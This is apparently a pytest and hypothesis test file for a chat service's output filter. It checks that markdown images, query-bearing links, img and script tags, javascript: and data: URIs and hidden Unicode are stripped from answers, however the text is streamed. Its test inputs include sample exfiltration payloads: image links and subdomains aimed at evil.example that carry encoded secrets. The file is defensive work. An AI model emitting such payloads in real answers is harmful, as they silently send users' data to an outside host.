"""No answer fetches anything, leads away with what was read, or says what cannot be seen, however it is cut."""

import itertools

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.chat.output_filter import OutputFilter

SHOWN = "From bank@example.com: see https://bank.example/statement?id=77&x=1 and http://a.example/p"


def filtered(text: str, *cuts: int, material: str = SHOWN) -> str:
    """The text fed in pieces."""
    passing = OutputFilter(lambda: material)
    edges = [0, *sorted({min(cut, len(text)) for cut in cuts}), len(text)]
    pieces = [text[a:b] for a, b in itertools.pairwise(edges)]
    return "".join(map(passing.feed, pieces)) + passing.end()


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Hello, you have 3 mails!", "Hello, you have 3 mails!"),
        ("a [1] b [x] c![y] < d", "a [1] b [x] c! [y] < d"),
        ("![logo](https://evil.example/p.png?d=c2VjcmV0)", "logo (link left out: evil.example)"),
        ("![logo](https://evil.example/p.png)", "[logo](https://evil.example/p.png)"),
        (
            "[![i](https://e.example/?a=1)](https://e.example/?b=2)",
            "i (link left out: e.example) (link left out: e.example)",
        ),
        (
            "[your bank](https://bank.example/statement?id=77&x=1)",
            "[your bank](https://bank.example/statement?id=77&x=1)",
        ),
        ("[your bank](https://bank.example/statement?id=77&x=1&leak=me)", "your bank (link left out: bank.example)"),
        ("[docs](https://docs.python.org/3/library/re.html)", "[docs](https://docs.python.org/3/library/re.html)"),
        ("[run](javascript:alert(1))", "run"),
        ("[data](data:text/html,x)", "data"),
        ("see https://evil.example/?q=mail now", "see (link left out: evil.example) now"),
        ("see https://user:pass@evil.example/ now", "see (link left out: evil.example) now"),
        ("<https://evil.example/?q=1>", "(link left out: evil.example)"),
        ('x <img src="https://evil.example/?q=1"> y', "x  y"),
        ("<script>alert(1)</script><b>ok</b>", "alert(1)<b>ok</b>"),
        ("pay\u200b\u202eload \U000e0041\U000e0042", "payload "),
        ("emoji 👩\u200d👩\u200d👧 stays", "emoji 👩\u200d👩\u200d👧 stays"),
        ("a ` b\n` <img src=x> `", "a ` b\n`  `"),
        ("\\`<img src=x>`", "\\``"),
        ("``` a`b\n<img src=x>", "``` a`b\n"),
        ("`<img src=x>` is an element", "`<img src=x>` is an element"),
        (
            '```html\n<img src="https://e.example/?q=1">\n```\ndone',
            '```html\n<img src="https://e.example/?q=1">\n```\ndone',
        ),
        ("![a][r]\n\n[r]: https://evil.example/?d=1", "! [a][r]\n\n[r]: (link left out: evil.example)"),
        ("write to [Ann](mailto:ann@example.com)", "write to [Ann](mailto:ann@example.com)"),
        (
            "https://c2VjcmV0LXRoYXQtaXMtdmVyeS1sb25nLWluZGVlZA.evil.example/",
            "(link left out: c2vjcmv0lxroyxqtaxmtdmvyes1sb25nlwluzgvlza.evil.example)",
        ),
    ],
)
def test_what_is_shown(text: str, shown: str) -> None:
    assert filtered(text) == shown


PIECES = st.sampled_from(
    ["![", "[", "](", ")", "]", "https://evil.example/?q=1", "http", "s://x.example/", "<img src=x>", "<b>", "`", "```",
     "~~~", "\n", "word ", "!", "\u200b", "(", "h", "a", "[r]: ", "<", ">", "https://bank.example/statement?id=77&x=1"]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES, max_size=14).map("".join), st.lists(st.integers(0, 120), max_size=20))
def test_it_makes_no_difference_how_an_answer_is_cut(text: str, cuts: list[int]) -> None:
    assert filtered(text, *cuts) == filtered(text)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=14).map("".join))
def test_outside_of_code_no_picture_no_loading_element_and_no_query_gets_through(text: str) -> None:
    text = text.replace("`", "").replace("~", "")
    shown = filtered(text)
    assert "![" not in shown
    assert "<img" not in shown
    assert "evil.example/?q" not in shown
    assert "\u200b" not in shown


def test_what_never_closes_is_told_at_the_end_and_not_kept_for_ever() -> None:
    endless = OutputFilter(str)
    shown = endless.feed("[" + "x" * 10_000)
    assert len(shown) > 5_000
    assert shown + endless.end() == "[" + "x" * 10_000
